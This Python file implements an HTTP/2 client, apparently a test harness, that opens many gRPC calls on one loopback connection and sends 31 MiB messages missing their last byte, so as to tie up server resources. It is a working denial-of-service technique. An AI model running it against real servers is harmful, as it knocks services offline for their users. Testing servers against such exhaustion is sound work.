"""An attacker that speaks HTTP/2 by hand: it begins large messages on many streams of one connection, and ends none."""

import contextlib
import select
import socket
import ssl
import struct
import time
from collections.abc import Iterator

import h2.config
import h2.connection
import h2.events
import h2.exceptions

MESSAGE_BYTES = 31 * 1024 * 1024
_CHUNK = bytes(16 * 1024)


class HalfSent:
    """A connection with calls whose one message lacks its last byte."""

    def __init__(self, connection: socket.socket, method: str, calls: int) -> None:
        """Open up to `calls` calls of a method (`/package.Service/Method`), if the server lets one connection."""
        self._socket = connection
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._h2.initiate_connection()
        self._send()
        self._method, self._calls = method, calls
        self._left: dict[int, int] = {}
        self.sent_bytes = 0
        """Of all messages."""
        self.refused = 0
        """Calls that were ended by the server."""

    @property
    def open_calls(self) -> int:
        """Calls that the server has neither ended nor refused."""
        return len(self._left)

    def push(self, seconds: float) -> None:
        """Send what the server takes for some time; returns early once it takes no more or has closed."""
        end, idle = time.monotonic() + seconds, 0
        while time.monotonic() < end and idle < 10:
            with contextlib.suppress(h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
                while self.open_calls + self.refused < self._calls:
                    self._open()
            moved = self._fill()
            ready, _, _ = select.select([self._socket], [], [], 0 if moved else 0.2)
            pending = isinstance(self._socket, ssl.SSLSocket) and self._socket.pending()
            if ready or pending:
                data = self._socket.recv(65536)
                if not data:
                    self._left.clear()
                    return
                self._heed(data)
            idle = 0 if moved or ready else idle + 1

    def _open(self) -> None:
        stream = self._h2.get_next_available_stream_id()
        headers = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", self._method),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        self._h2.send_headers(stream, headers)
        self._h2.send_data(stream, struct.pack(">BI", 0, MESSAGE_BYTES))
        self._left[stream] = MESSAGE_BYTES - 1
        self._send()

    def _fill(self) -> bool:
        moved = False
        for stream in list(self._left):
            room = min(self._h2.local_flow_control_window(stream), self._h2.max_outbound_frame_size, self._left[stream])
            if room > 0:
                self._h2.send_data(stream, _CHUNK[:room])
                size = min(room, len(_CHUNK))
                self._left[stream] -= size
                self.sent_bytes += size
                moved = True
        self._send()
        return moved

    def _heed(self, data: bytes) -> None:
        for event in self._h2.receive_data(data):
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id in self._left:
                del self._left[event.stream_id]
                self.refused += 1
        self._send()

    def _send(self) -> None:
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            self._socket.sendall(self._h2.data_to_send())


@contextlib.contextmanager
def half_sent(address: str, method: str, calls: int, tls: ssl.SSLContext | None = None) -> Iterator[HalfSent]:
    """Connect to HOST:PORT on loopback, by TLS where there is a context."""
    host, _, port = address.rpartition(":")
    with contextlib.ExitStack() as stack:
        connection = stack.enter_context(socket.create_connection((host, int(port)), timeout=30))
        if tls is not None:
            connection = stack.enter_context(tls.wrap_socket(connection, server_hostname="localhost"))
        yield HalfSent(connection, method, calls)
